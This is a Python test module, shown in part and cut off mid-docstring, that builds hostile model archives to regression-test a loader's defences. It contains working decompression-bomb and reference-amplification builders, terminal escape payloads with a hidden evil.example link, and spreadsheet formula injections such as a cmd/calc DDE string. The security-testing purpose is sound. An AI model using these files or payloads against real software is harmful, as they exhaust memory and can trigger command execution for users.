"""Crafted hostile model files (issue 17), and a way to open them under resource limits.

Every builder starts from a model saved by the bayesgen on ``sys.path`` (so the files have
whatever manifest fields, such as a checksum, that version writes), changes what an
attacker would change, re-seals the manifest the way the loader checks it (an unkeyed
checksum is no defence: an attacker recomputes it too) and writes the archive with the
small zip writer below, which can say anything a zip header can say (compression method,
declared sizes, flags, duplicate names).  The files stay small; the bombs rely on
compression that the builders produce cheaply (repeated deflate and bzip2 blocks).

Builders take a folder and return the path of the file they wrote; :data:`ATTACKS` lists
them with the finding of the issue (1-6) each one reproduces.  :func:`run_limited` runs a
command under ``RLIMIT_AS``/``RLIMIT_CPU`` and a wall-clock timeout and reports its peak
resident memory; :func:`probe_steps` runs many loads or CLI calls in one such child.

This module imports only the standard library at the top: it also runs as a script, as the
launcher of limited children (``launch``), the in-process prober (``probe``) and the
builder for another source tree (``build``, used by ``benchmarks/model_file_attacks.py``).
"""

from __future__ import annotations

import bz2
import copy
import hashlib
import io
import json
import lzma
import os
import resource
import signal
import struct
import subprocess
import sys
import tempfile
import time
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache, lru_cache
from pathlib import Path

GIB = 2**30
MIB = 2**20

# -- zip archives, written by hand --------------------------------------------------------

STORED, DEFLATED, BZIP2, LZMA = 0, 8, 12, 14
#: general-purpose flag bits: the entry is encrypted; (LZMA) the stream has an end marker
FLAG_ENCRYPTED, FLAG_LZMA_EOS = 0x1, 0x2
_VERSION_NEEDED = {STORED: 20, DEFLATED: 20, BZIP2: 46, LZMA: 63}
_DOS_DATE = (1 << 5) | 1  # 1980-01-01: fixed, so that a builder always writes the same bytes
_ZIP64_LIMIT = 0xFFFFFFFF


@dataclass
class Member:
    """One entry of a zip archive as stored: ``payload`` is already compressed, and ``crc``
    and ``size`` are what the headers declare (an attack may make them lie)."""

    name: str
    payload: bytes
    method: int
    crc: int
    size: int
    flags: int = 0


def stored(name: str, data: bytes) -> Member:
    """An uncompressed member holding ``data``."""
    return Member(name, data, STORED, zlib.crc32(data), len(data))


def deflated(name: str, data: bytes) -> Member:
    """A deflated member holding ``data``."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return Member(
        name, packer.compress(data) + packer.flush(), DEFLATED, zlib.crc32(data), len(data)
    )


def write_zip(path: Path, members: list[Member]) -> Path:
    """Write ``members`` in order as a zip archive (zip64 sizes where a size needs them).

    Duplicate names are written as given: the archive format allows them, and readers differ
    on which one they use.
    """
    out = bytearray()
    central = bytearray()
    for m in members:
        name = m.name.encode()
        offset = len(out)
        big = m.size >= _ZIP64_LIMIT
        version = max(_VERSION_NEEDED[m.method], 45 if big else 0)
        if big:  # the local header must then carry both sizes in the zip64 field
            local_sizes = (_ZIP64_LIMIT, _ZIP64_LIMIT)
            local_extra = struct.pack("<HHQQ", 1, 16, m.size, len(m.payload))
            central_extra = struct.pack("<HHQ", 1, 8, m.size)
        else:
            local_sizes = (len(m.payload), m.size)
            local_extra = central_extra = b""
        out += struct.pack(
            "<IHHHHHI2IHH", 0x04034B50, version, m.flags, m.method, 0, _DOS_DATE, m.crc,
            *local_sizes, len(name), len(local_extra),
        )  # fmt: skip
        out += name + local_extra + m.payload
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, version, m.flags, m.method, 0, _DOS_DATE,
            m.crc, len(m.payload), _ZIP64_LIMIT if big else m.size, len(name),
            len(central_extra), 0, 0, 0, 0, offset,
        )  # fmt: skip
        central += name + central_extra
    end = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), len(out), 0
    )
    Path(path).write_bytes(bytes(out + central + end))
    return Path(path)


# -- cheap bombs ----------------------------------------------------------------------------

_CRC_POLY = 0xEDB88320


def _gf2_multiply(a: int, b: int) -> int:
    """``a * b`` modulo the CRC-32 polynomial (bit-reflected, as in zlib's ``multmodp``)."""
    m, product = 1 << 31, 0
    while True:
        if a & m:
            product ^= b
            if a & (m - 1) == 0:
                return product
        m >>= 1
        b = (b >> 1) ^ _CRC_POLY if b & 1 else b >> 1


_X_POW_2N = [1 << 30]  # x^(2^n) modulo the polynomial, n = 0..31
for _ in range(31):
    _X_POW_2N.append(_gf2_multiply(_X_POW_2N[-1], _X_POW_2N[-1]))


def crc32_zeros(crc: int, n: int) -> int:
    """``zlib.crc32(data + bytes(n))`` from ``crc = zlib.crc32(data)``, in O(log n): feeding n
    zero bytes multiplies the (pre-inverted) register by x^(8n)."""
    power, k = 1 << 31, 3
    while n:
        if n & 1:
            power = _gf2_multiply(_X_POW_2N[k & 31], power)
        n >>= 1
        k += 1
    return _gf2_multiply(power, crc ^ 0xFFFFFFFF) ^ 0xFFFFFFFF


def deflate_zeros(prefix: bytes, n_zeros: int) -> bytes:
    """A raw deflate stream of ``prefix + bytes(n_zeros)``, built in O(output).

    After a full flush the compressor keeps no history, so compressing the next MiB of zeros
    gives the same bytes every time: the stream is that piece repeated.
    """
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = packer.compress(prefix) + packer.flush(zlib.Z_FULL_FLUSH)
    piece = packer.compress(bytes(MIB)) + packer.flush(zlib.Z_FULL_FLUSH)
    if packer.compress(bytes(MIB)) + packer.flush(zlib.Z_FULL_FLUSH) != piece:
        raise RuntimeError("this zlib does not repeat itself after a full flush")
    whole, rest = divmod(n_zeros, MIB)
    return head + piece * whole + packer.compress(bytes(rest)) + packer.flush()


_BZ_BLOCK_MAGIC, _BZ_END_MAGIC = 0x314159265359, 0x177245385090
_BZ_ZERO_CHUNK = 32 * MIB  # fits one block: bzip2's run-length step makes it ~660 kB


def _bzip2_block(data: bytes) -> tuple[int, int, int]:
    """The only block of ``bz2.compress(data, 9)``: (its bits as an int, bit length, CRC)."""
    stream = bz2.compress(data, 9)
    value, total = int.from_bytes(stream, "big"), 8 * len(stream)

    def bits(pos: int, length: int) -> int:
        return (value >> (total - pos - length)) & ((1 << length) - 1)

    if bits(32, 48) != _BZ_BLOCK_MAGIC:
        raise RuntimeError("unexpected bzip2 stream")
    end = next(total - pad - 80 for pad in range(8) if bits(total - pad - 80, 48) == _BZ_END_MAGIC)
    crc = bits(80, 32)
    if bits(end + 48, 32) != crc:  # the stream CRC of one block is that block's CRC
        raise RuntimeError("bzip2 wrote more than one block")
    return bits(32, end - 32), end - 32, crc


def bzip2_zeros(prefix: bytes, n_zeros: int) -> bytes:
    """A bzip2 stream of ``prefix + bytes(n_zeros)`` (``n_zeros`` a multiple of 32 MiB).

    Blocks are independent (each restarts its run-length decoding and has its own CRC), so
    the stream is the prefix's block followed by one block of 32 MiB of zeros repeated,
    bit-packed, with the stream CRC recomputed.
    """
    if n_zeros % _BZ_ZERO_CHUNK:
        raise ValueError("n_zeros must be a multiple of 32 MiB")
    blocks = [_bzip2_block(prefix)] + [_bzip2_block(bytes(_BZ_ZERO_CHUNK))] * (
        n_zeros // _BZ_ZERO_CHUNK
    )
    acc, n_bits, combined = int.from_bytes(b"BZh9", "big"), 32, 0
    for bits, length, crc in blocks:
        acc, n_bits = (acc << length) | bits, n_bits + length
        combined = (((combined << 1) | (combined >> 31)) & 0xFFFFFFFF) ^ crc
    acc, n_bits = (((acc << 48) | _BZ_END_MAGIC) << 32) | combined, n_bits + 80
    pad = -n_bits % 8
    return (acc << pad).to_bytes((n_bits + pad) // 8, "big")


def lzma_zeros(prefix: bytes, n_zeros: int) -> bytes:
    """A zip LZMA payload (version, properties, raw LZMA1 stream) of ``prefix + bytes(n_zeros)``.

    LZMA has no independent blocks, so this compresses for real (~4 s per GiB, preset 0).
    """
    lc, lp, pb, dict_size = 3, 0, 2, 1 << 16
    lzma1 = {"id": lzma.FILTER_LZMA1, "preset": 0, "dict_size": dict_size}
    packer = lzma.LZMACompressor(lzma.FORMAT_RAW, filters=[lzma1 | {"lc": lc, "lp": lp, "pb": pb}])
    props = struct.pack("<BI", (pb * 5 + lp) * 9 + lc, dict_size)
    parts = [struct.pack("<BBH", 9, 4, len(props)), props, packer.compress(prefix)]
    zeros = bytes(MIB)
    whole, rest = divmod(n_zeros, MIB)
    parts += [packer.compress(zeros) for _ in range(whole)]
    parts += [packer.compress(bytes(rest)), packer.flush()]
    return b"".join(parts)


def _sha256_zeros(prefix: bytes, n_zeros: int) -> str:
    """sha256 of ``prefix + bytes(n_zeros)`` without holding it (~0.6 s per GiB)."""
    digest = hashlib.sha256(prefix)
    zeros = bytes(MIB)
    whole, rest = divmod(n_zeros, MIB)
    for _ in range(whole):
        digest.update(zeros)
    digest.update(bytes(rest))
    return digest.hexdigest()


# -- manifests ------------------------------------------------------------------------------

#: json.dumps options a loader may call canonical, and names it may store the checksum
#: under; the pair that reproduces a legitimate file's checksum is the one in use
_CANONICAL_CANDIDATES = (
    {"sort_keys": True, "separators": (",", ":"), "ensure_ascii": True},
    {"sort_keys": True, "separators": (",", ":"), "ensure_ascii": False},
    {"sort_keys": True, "ensure_ascii": True},
    {"sort_keys": True, "ensure_ascii": False},
)
_CHECKSUM_FIELDS = ("manifest_sha256", "checksum")
_COMPACT = {"separators": (",", ":")}
#: a digest written where computing the real one would take longer than the test; no loader
#: can reach it (the old one runs out of memory reading the member, a fixed one refuses the
#: declared size first)
UNHASHED = "0" * 64
_SPLICE = "@@splice-{}@@"


def _dumps(value, options: dict) -> bytes:
    return json.dumps(value, allow_nan=False, **options).encode("utf-8")


@dataclass(frozen=True)
class _Seal:
    """How the current bayesgen seals a manifest: the field holding the checksum, the JSON
    options of its canonical form, and its own function for it (if it exports one)."""

    field: str
    options: dict
    function: Callable[[dict], str] | None


@lru_cache(maxsize=1)
def _seal_rule() -> _Seal | None:
    """The checksum rule of the bayesgen on ``sys.path``, learned from a legitimate file and
    checked against ``bayesgen.base.persist.manifest_checksum`` where that exists; None
    when its manifests carry no checksum (format version 1)."""
    from bayesgen.base import persist

    manifest = _legit("gaussian").manifest
    function = getattr(persist, "manifest_checksum", None)
    for field in _CHECKSUM_FIELDS:
        if field not in manifest:
            continue
        bare = {k: v for k, v in manifest.items() if k != field}
        for options in _CANONICAL_CANDIDATES:
            if hashlib.sha256(_dumps(bare, options)).hexdigest() == manifest[field]:
                if function is not None and function(manifest) != manifest[field]:
                    break
                return _Seal(field, options, function)
        raise RuntimeError(
            f"cannot reproduce the {field!r} of a model file saved by this bayesgen; add its "
            "canonical JSON to _CANONICAL_CANDIDATES in tests/base/crafted_models.py"
        )
    return None


def manifest_bytes(manifest: dict, splices: dict[str, bytes] | None = None) -> bytes:
    """The manifest as a file holds it, with its checksum recomputed as the loader does.

    ``splices`` maps a placeholder string (a value somewhere in ``manifest``) to raw JSON
    text put in its place: values too deep or too big to build as Python objects.  They are
    written in the canonical form, so the checksum covers them exactly (bayesgen's own
    function cannot be given them: it would have to build them).
    """
    splices = splices or {}
    seal = _seal_rule()
    options = seal.options if seal else _COMPACT
    bare = {k: v for k, v in manifest.items() if not seal or k != seal.field}

    def render(value) -> bytes:
        text = _dumps(value, options)
        for placeholder, raw in splices.items():
            token = json.dumps(placeholder).encode()
            if text.count(token) != 1:
                raise ValueError(f"placeholder {placeholder!r} must occur exactly once")
            text = text.replace(token, raw)
        return text

    if seal is None:
        return render(bare)
    if seal.function is not None and not splices:
        checksum = seal.function(bare)
    else:
        checksum = hashlib.sha256(render(bare)).hexdigest()
    return render({**bare, seal.field: checksum})


def _json_separator() -> bytes:
    """What separates the items of a list in the manifest's canonical form."""
    seal = _seal_rule()
    text = _dumps([0, 0], seal.options if seal else _COMPACT)
    return text[2:-2]


# -- legitimate starting points ----------------------------------------------------------------


@dataclass
class Model:
    """A saved model taken apart: its manifest and its array members (name -> bytes)."""

    manifest: dict
    members: dict[str, bytes]

    @property
    def state(self) -> dict:
        """The classifier's state mapping (``params``, ``classes``, ``densities``...)."""
        return self.manifest["model"]["state"]["__dict__"]

    @property
    def params(self) -> dict:
        """The classifier's parameters."""
        return self.state["params"]["__dict__"]

    def densities(self) -> list[dict]:
        """The state mapping of each class density."""
        return [d["state"]["__dict__"] for d in self.state["densities"]]

    def ref(self, value) -> str:
        """The array key of an ``{"__ndarray__": key}`` reference."""
        return value["__ndarray__"]

    def set_array(self, key: str, blob: bytes, descr: str, shape, sha256: str | None = None):
        """Replace (or add) array ``key`` with the .npy bytes ``blob`` and its manifest entry."""
        self.members[f"arrays/{key}.npy"] = blob
        self.manifest["arrays"][key] = {
            "dtype": descr,
            "shape": [int(s) for s in shape],
            "sha256": sha256 or hashlib.sha256(blob).hexdigest(),
        }

    def put(self, key: str, array) -> dict:
        """Store a numpy array under ``key``; returns its reference for the object tree."""
        import numpy as np

        buffer = io.BytesIO()
        np.lib.format.write_array(buffer, np.ascontiguousarray(array), allow_pickle=False)
        self.set_array(
            key, buffer.getvalue(), np.lib.format.dtype_to_descr(array.dtype), array.shape
        )
        return {"__ndarray__": key}

    def array(self, key: str):
        """Array ``key`` as numpy reads it."""
        import numpy as np

        return np.load(io.BytesIO(self.members[f"arrays/{key}.npy"]), allow_pickle=False)

    def next_key(self) -> str:
        """An array key not used yet."""
        return f"a{len(self.manifest['arrays'])}"

    def first_matrix(self) -> str:
        """The key of the first 2-D array (a Cholesky factor in a Gaussian model)."""
        return next(k for k, v in self.manifest["arrays"].items() if len(v["shape"]) == 2)


def npy_header(descr: str, shape) -> bytes:
    """The header of a version 1.0 .npy file declaring ``descr`` and ``shape``."""
    import numpy as np

    buffer = io.BytesIO()
    header = {"descr": descr, "fortran_order": False, "shape": tuple(int(s) for s in shape)}
    np.lib.format.write_array_header_1_0(buffer, header)
    return buffer.getvalue()


def numeric_metadata(n_features: int, n_rows: int) -> dict:
    """What ``bayesgen fit train.csv`` records for a numeric CSV file."""
    return {
        "source": "train.csv",
        "source_format": "csv",
        "image_shape": None,
        "pixel_scale": None,
        "feature_names": [f"x{j}" for j in range(n_features)],
        "label_column": "label",
        "n_rows": n_rows,
    }


def _fit(kind: str):
    import numpy as np

    from bayesgen import BayesClassifier
    from bayesgen.densities import GaussianCopulaDensity

    rng = np.random.default_rng(0)
    X = rng.normal(size=(80, 4 if kind == "image" else 3))
    y = np.array(["a", "b", "c", "d"])[np.arange(80) % 4]
    if kind == "copula":
        X[:, 1] = np.exp(X[:, 1])  # a skewed column, so the families differ
        density = GaussianCopulaDensity(marginals="parametric")
        return BayesClassifier(density).fit(X, np.where(y < "c", "a", "b"))
    density = {"gaussian": "gaussian", "image": "gaussian", "auto": "auto", "fa": "fa:2"}[kind]
    return BayesClassifier(density).fit(X, y)


@cache
def _saved(kind: str) -> dict[str, bytes]:
    """The members of a small model of ``kind`` saved by the current bayesgen (cached;
    :func:`_legit` hands out copies)."""
    model = _fit(kind)
    metadata = numeric_metadata(model.n_features_in_, 80)
    if kind == "image":
        metadata.update(image_shape=[2, 2], pixel_scale=1.0, feature_names=None)
    with tempfile.TemporaryDirectory() as scratch:
        path = Path(scratch) / "m.bgm"
        model.save(path, metadata=metadata)
        with zipfile.ZipFile(path) as archive:
            return {name: archive.read(name) for name in archive.namelist()}


def _legit(kind: str) -> Model:
    """A fresh, mutable copy of a legitimate model file of ``kind``."""
    members = dict(_saved(kind))
    manifest = json.loads(members.pop("manifest.json"))
    return Model(manifest, members)


def legit_file(folder: Path, kind: str = "gaussian", name: str | None = None) -> Path:
    """A legitimate model file (``gaussian``: 4 classes, 3 features; ``image``: 2x2 images)."""
    return pack(Path(folder) / (name or f"legit_{kind}.bgm"), _legit(kind))


def pack(
    path: Path,
    model: Model,
    *,
    replace: dict[str, Member] | None = None,
    splices: dict[str, bytes] | None = None,
    extra: list[Member] | None = None,
) -> Path:
    """Write ``model`` as a zip: manifest first (sealed), then arrays; members of 64 KiB or
    more deflated (legal in every version); ``replace`` swaps members as crafted,
    ``extra`` appends members (duplicates included)."""
    replace = replace or {}
    contents = {"manifest.json": manifest_bytes(model.manifest, splices), **model.members}
    members = []
    for name, data in contents.items():
        if name in replace:
            members.append(replace[name])
        else:
            members.append(deflated(name, data) if len(data) >= 64 * 1024 else stored(name, data))
    return write_zip(Path(path), members + (extra or []))


# -- the attacks ------------------------------------------------------------------------------
# (1) decompression bombs


def deflate_1gib(folder: Path) -> Path:
    """A deflated 1 GiB array member (.npy header claiming 2^27 float64) in a ~1 MB file; the
    manifest keeps the array's small shape and carries the member's recomputed sha256."""
    model = _legit("gaussian")
    key = model.first_matrix()
    header = npy_header("<f8", (GIB // 8,))
    name = f"arrays/{key}.npy"
    member = Member(
        name, deflate_zeros(header, GIB), DEFLATED, crc32_zeros(zlib.crc32(header), GIB),
        len(header) + GIB,
    )  # fmt: skip
    model.manifest["arrays"][key]["sha256"] = _sha256_zeros(header, GIB)
    return pack(Path(folder) / "deflate_1gib.bgm", model, replace={name: member})


def _eight_gib(folder: Path, file_name: str, manifest_shape) -> Path:
    model = _legit("gaussian")
    key = model.first_matrix()
    size = 8 * GIB
    header = npy_header("<f8", (size // 8,))
    name = f"arrays/{key}.npy"
    member = Member(
        name, deflate_zeros(header, size), DEFLATED, crc32_zeros(zlib.crc32(header), size),
        len(header) + size,
    )  # fmt: skip
    model.manifest["arrays"][key] = {"dtype": "<f8", "shape": manifest_shape, "sha256": UNHASHED}
    return pack(Path(folder) / file_name, model, replace={name: member})


def deflate_8gib_huge_shape(folder: Path) -> Path:
    """An 8 GiB deflated member (~8 MB file) whose manifest declares its true shape [2^30]."""
    return _eight_gib(folder, "deflate_8gib_huge_shape.bgm", [GIB])


def deflate_8gib_shape_64(folder: Path) -> Path:
    """The same 8 GiB member, the manifest declaring shape [64]."""
    return _eight_gib(folder, "deflate_8gib_shape_64.bgm", [64])


def trailing_1gib(folder: Path) -> Path:
    """A valid array followed by 1 GiB of zeros in the same deflated member; the manifest's
    sha256 covers the whole member (recomputed), its shape is the valid array's."""
    model = _legit("gaussian")
    key = model.first_matrix()
    name = f"arrays/{key}.npy"
    blob = model.members[name]
    member = Member(
        name, deflate_zeros(blob, GIB), DEFLATED, crc32_zeros(zlib.crc32(blob), GIB),
        len(blob) + GIB,
    )  # fmt: skip
    model.manifest["arrays"][key]["sha256"] = _sha256_zeros(blob, GIB)
    return pack(Path(folder) / "trailing_1gib.bgm", model, replace={name: member})


def _declared_small(folder: Path, file_name: str, method: int) -> Path:
    model = _legit("gaussian")
    name = f"arrays/{model.first_matrix()}.npy"
    blob = model.members[name]  # the headers declare this array, size and CRC
    payload = bzip2_zeros(blob, GIB) if method == BZIP2 else lzma_zeros(blob, GIB)
    flags = FLAG_LZMA_EOS if method == LZMA else 0
    member = Member(name, payload, method, zlib.crc32(blob), len(blob), flags)
    return pack(Path(folder) / file_name, model, replace={name: member})


def bzip2_member(folder: Path) -> Path:
    """A bzip2 array member declaring the valid array's size (a few hundred bytes) whose
    stream inflates to that array plus 1 GiB of zeros."""
    return _declared_small(folder, "bzip2_member.bgm", BZIP2)


def lzma_member(folder: Path) -> Path:
    """The same with an LZMA member."""
    return _declared_small(folder, "lzma_member.bgm", LZMA)


def bzip2_manifest(folder: Path) -> Path:
    """manifest.json as a bzip2 member declaring its true size, inflating to 1 GiB more."""
    model = _legit("gaussian")
    text = manifest_bytes(model.manifest)
    member = Member("manifest.json", bzip2_zeros(text, GIB), BZIP2, zlib.crc32(text), len(text))
    return pack(Path(folder) / "bzip2_manifest.bgm", model, replace={"manifest.json": member})


# (2) amplification by reference


def _many_classes(model: Model, n_classes: int, density: dict) -> None:
    """Make ``model`` a classifier of ``n_classes`` classes, each with the density subtree
    ``density`` (the same JSON, so the same array references, every time)."""
    import numpy as np

    state = model.state
    state["classes"] = model.put("a0", np.arange(n_classes))
    state["class_count"] = model.put("a1", np.full(n_classes, 10.0))
    state["class_prior"] = model.put("a2", np.full(n_classes, 1.0 / n_classes))
    state["densities"] = [density] * n_classes
    state["missing_rate"] = None


def _fresh(kind: str) -> Model:
    """A legitimate model of ``kind`` with its arrays dropped (the builder adds its own)."""
    model = _legit(kind)
    model.manifest["arrays"], model.members = {}, {}
    return model


def _full_covariance_density(template: dict, mean_ref: dict, chol_ref: dict, d: int) -> dict:
    density = copy.deepcopy(template)
    fitted = density["state"]["__dict__"]["fitted"]["__dict__"]
    fitted["mean_"] = mean_ref
    fitted["covariance_"]["state"]["__dict__"]["cholesky"] = chol_ref
    fitted["n_features_in_"] = d
    return density


def _compressible_cholesky(d: int):
    """A valid d x d Cholesky factor that deflates ~1000:1 (rows of one repeated value)."""
    import numpy as np

    return np.tril(np.full((d, d), 0.01), -1) + np.eye(d)


def _refs_full(folder: Path, n_classes: int, file_name: str) -> Path:
    """``n_classes`` classes whose Gaussian densities all reference one 32 MB Cholesky
    factor (2000 features)."""
    import numpy as np

    d = 2000
    model = _fresh("gaussian")
    template = model.state["densities"][0]
    mean_ref = model.put("a3", np.zeros(d))
    chol_ref = model.put("a4", _compressible_cholesky(d))
    _many_classes(model, n_classes, _full_covariance_density(template, mean_ref, chol_ref, d))
    model.state["n_features_in"] = d
    model.manifest["metadata"] = numeric_metadata(d, 100 * n_classes) | {"feature_names": None}
    return pack(Path(folder) / file_name, model)


def refs_full_400(folder: Path) -> Path:
    """400 classes on one 32 MB Cholesky factor: 12.8 GB if every reference is a copy."""
    return _refs_full(folder, 400, "refs_full_400.bgm")


def refs_full_60(folder: Path) -> Path:
    """60 classes on one 32 MB Cholesky factor: 1.9 GB of references, under a 2 GiB
    reference budget, so only sharing the rebuilt objects keeps it cheap."""
    return _refs_full(folder, 60, "refs_full_60.bgm")


def _refs_lowrank(folder: Path, n_classes: int, d: int, k: int, file_name: str) -> Path:
    """``n_classes`` factor-analysis densities on one d x k loading matrix (one SVD each
    when every reference is rebuilt)."""
    import numpy as np

    model = _fresh("fa")
    density = copy.deepcopy(model.state["densities"][0])
    body = density["state"]["__dict__"]
    body["params"]["__dict__"]["n_components"] = k
    fitted = body["fitted"]["__dict__"]
    fitted["mean_"] = model.put("a3", np.zeros(d))
    covariance = fitted["covariance_"]["state"]["__dict__"]
    covariance["W"] = model.put("a4", np.tril(np.full((d, k), 0.01)))
    covariance["psi"] = model.put("a5", np.ones(d))
    fitted["n_features_in_"] = d
    _many_classes(model, n_classes, density)
    model.state["n_features_in"] = d
    model.params["density"] = f"fa:{k}"
    model.manifest["metadata"] = numeric_metadata(d, 100 * n_classes) | {"feature_names": None}
    return pack(Path(folder) / file_name, model)


def refs_lowrank_400(folder: Path) -> Path:
    """400 factor-analysis densities on one 1000 x 800 loading matrix: 400 SVDs (minutes),
    2.6 GB of references."""
    return _refs_lowrank(folder, 400, 1000, 800, "refs_lowrank_400.bgm")


def refs_lowrank_250(folder: Path) -> Path:
    """250 factor-analysis densities on one 1000 x 1000 loading matrix: 2.0 GB of references,
    under a 2 GiB reference budget, and 250 SVDs if each reference is rebuilt."""
    return _refs_lowrank(folder, 250, 1000, 1000, "refs_lowrank_250.bgm")


def refs_priors_10(folder: Path) -> Path:
    """A valid model whose ``priors`` parameter holds 10 covariance objects built on one
    32 MB array (priors are a parameter, checked by nobody before the fix)."""
    model = _legit("gaussian")
    ref = model.put(model.next_key(), _compressible_cholesky(2000))
    covariance = {"__object__": "FullCovariance", "state": {"__dict__": {"cholesky": ref}}}
    model.params["priors"] = [covariance] * 10
    return pack(Path(folder) / "refs_priors_10.bgm", model)


# (3) cheap to declare, expensive to process


def u0_labels(folder: Path) -> Path:
    """Class labels as a '<U0' array of 5 x 10^8 zero-width strings (a header, no data)."""
    model = _legit("gaussian")
    key = model.ref(model.state["classes"])
    n = 500_000_000
    blob = npy_header("<U0", (n,))
    model.set_array(key, blob, "<U0", (n,))
    return pack(Path(folder) / "u0_labels.bgm", model)


def manifest_63mb(folder: Path) -> Path:
    """A 63 MB manifest (~80 KB deflated): metadata holding 21 million empty mappings."""
    model = _legit("gaussian")
    placeholder = _SPLICE.format(0)
    model.manifest["metadata"]["notes"] = placeholder
    n = 21_000_000
    raw = b"[" + (b"{}" + _json_separator()) * (n - 1) + b"{}]"
    text = manifest_bytes(model.manifest, {placeholder: raw})
    return pack(
        Path(folder) / "manifest_63mb.bgm",
        model,
        replace={"manifest.json": deflated("manifest.json", text)},
    )


def _copula(edit: Callable[[Model, dict], None], file_name: str, folder: Path) -> Path:
    """A parametric-copula model with ``edit(model, parametric_state)`` applied to every class."""
    model = _legit("copula")
    for density in model.densities():
        edit(model, density["fitted"]["__dict__"]["parametric_"]["__dict__"])
    return pack(Path(folder) / file_name, model)


def _set_family(model: Model, parametric: dict, family: str, row: list[float]) -> None:
    """Make the first parametric marginal ``family`` with parameters ``row``."""
    import numpy as np

    families = model.array(model.ref(parametric["families"])).astype(object)
    families[0] = family
    params = model.array(model.ref(parametric["params"]))
    width = max(params.shape[1], len(row))
    table = np.full((params.shape[0], width), np.nan)
    table[:, : params.shape[1]] = params
    table[0] = np.nan
    table[0, : len(row)] = row
    parametric["families"] = model.put(model.ref(parametric["families"]), families.astype(str))
    parametric["params"] = model.put(model.ref(parametric["params"]), table)


def copula_studentized_range(folder: Path) -> Path:
    """A copula marginal naming scipy's ``studentized_range`` (legal, but each draw takes a
    numerical integration: ``sample -n 1000`` runs for minutes)."""
    return _copula(
        lambda m, p: _set_family(m, p, "studentized_range", [3.0, 10.0, 0.0, 1.0]),
        "copula_studentized_range.bgm",
        folder,
    )


# (4) failures that were raw tracebacks


def deep_metadata(folder: Path) -> Path:
    """Metadata holding a list nested 100,000 deep."""
    model = _legit("gaussian")
    placeholder = _SPLICE.format(0)
    model.manifest["metadata"]["notes"] = placeholder
    depth = 100_000
    return pack(
        Path(folder) / "deep_metadata.bgm",
        model,
        splices={placeholder: b"[" * depth + b"]" * depth},
    )


def deep_model(folder: Path) -> Path:
    """The classifier's ``random_state`` parameter nested 900 lists deep."""
    model = _legit("gaussian")
    placeholder = _SPLICE.format(0)
    model.params["random_state"] = placeholder
    return pack(
        Path(folder) / "deep_model.bgm", model, splices={placeholder: b"[" * 900 + b"]" * 900}
    )


def encrypted_member(folder: Path) -> Path:
    """An array member flagged as encrypted (it is not)."""
    model = _legit("gaussian")
    name = f"arrays/{model.first_matrix()}.npy"
    member = stored(name, model.members[name])
    member.flags |= FLAG_ENCRYPTED
    return pack(Path(folder) / "encrypted_member.bgm", model, replace={name: member})


def npy_header_8tb(folder: Path) -> Path:
    """A member whose .npy header claims 10^12 float64 (8 TB) and holds nothing else; the
    manifest keeps the array's true shape and carries the member's sha256."""
    model = _legit("gaussian")
    key = model.first_matrix()
    entry = model.manifest["arrays"][key]
    model.set_array(key, npy_header("<f8", (10**12,)), entry["dtype"], entry["shape"])
    return pack(Path(folder) / "npy_header_8tb.bgm", model)


def metadata_wrong_types(folder: Path) -> Path:
    """Metadata with every field of the wrong type."""
    model = _legit("gaussian")
    model.manifest["metadata"] = {
        "source": ["not", "text"],
        "source_format": 3,
        "image_shape": 7,
        "pixel_scale": "bright",
        "feature_names": 5,
        "label_column": {"x": 1},
        "n_rows": "many",
    }
    return pack(Path(folder) / "metadata_wrong_types.bgm", model)


def auto_without_criterion(folder: Path) -> Path:
    """An ``auto`` density whose selection records lack ``criterion``."""
    model = _legit("auto")
    for density in model.densities():
        for record in density["fitted"]["__dict__"]["selection_"]:
            record["__dict__"].pop("criterion")
    return pack(Path(folder) / "auto_without_criterion.bgm", model)


def _feature_999(model: Model, parametric: dict) -> None:
    features = model.array(model.ref(parametric["features"]))
    features[0] = 999
    parametric["features"] = model.put(model.ref(parametric["features"]), features)


def copula_feature_999(folder: Path) -> Path:
    """A copula whose first parametric marginal is for feature 999 (of 3)."""
    return _copula(_feature_999, "copula_feature_999.bgm", folder)


def scipy_five_params(folder: Path) -> Path:
    """A copula marginal ``norm`` given 5 parameters (it takes 2)."""
    return _copula(
        lambda m, p: _set_family(m, p, "norm", [0.0, 1.0, 2.0, 3.0, 4.0]),
        "scipy_five_params.bgm",
        folder,
    )


# (5) hostile text

#: clear screen, set the window title (OSC 0), a hidden link (OSC 8)
CLEAR_SCREEN = "\x1b[2J\x1b[3J\x1b[H"
WINDOW_TITLE = "\x1b]0;pwned\x07"
HIDDEN_LINK = "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\"
FORMULAS = ['=HYPERLINK("https://evil.example","x")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]


def _relabel(model: Model, labels: list[str]) -> None:
    import numpy as np

    labels = np.sort(np.array(labels))
    model.state["classes"] = model.put(model.ref(model.state["classes"]), labels)


def escape_sequences(folder: Path) -> Path:
    """Class labels and metadata carrying terminal escape sequences."""
    model = _legit("gaussian")
    _relabel(model, [CLEAR_SCREEN + "a", HIDDEN_LINK, WINDOW_TITLE + "c", "d\x07\x1b[31m"])
    model.manifest["metadata"]["source"] = WINDOW_TITLE + CLEAR_SCREEN + "train.csv"
    model.manifest["metadata"]["label_column"] = HIDDEN_LINK
    return pack(Path(folder) / "escape_sequences.bgm", model)


def formula_cells(folder: Path) -> Path:
    """Feature names and class labels that a spreadsheet would run as formulas."""
    model = _legit("gaussian")
    model.manifest["metadata"]["feature_names"] = list(FORMULAS)
    model.manifest["metadata"]["label_column"] = "-2+3+cmd|' /C calc'!A0"
    _relabel(model, ["=1+2", "@SUM(A1)", "+1-1", "-1+1"])
    return pack(Path(folder) / "formula_cells.bgm", model)


# (6) archives that read differently in different tools


def duplicate_manifest(folder: Path) -> Path:
    """Two ``manifest.json`` members: the first benign, the second (what the old loader read)
    with other metadata and priors."""
    model = _legit("gaussian")
    second = copy.deepcopy(model)
    second.manifest["metadata"]["source"] = "the second manifest"
    second.params["reg_covar"] = 0.5
    duplicate = stored("manifest.json", manifest_bytes(second.manifest))
    return pack(Path(folder) / "duplicate_manifest.bgm", model, extra=[duplicate])


def duplicate_array(folder: Path) -> Path:
    """Two members for one array: ``unzip`` shows the first, the manifest's sha256 is the
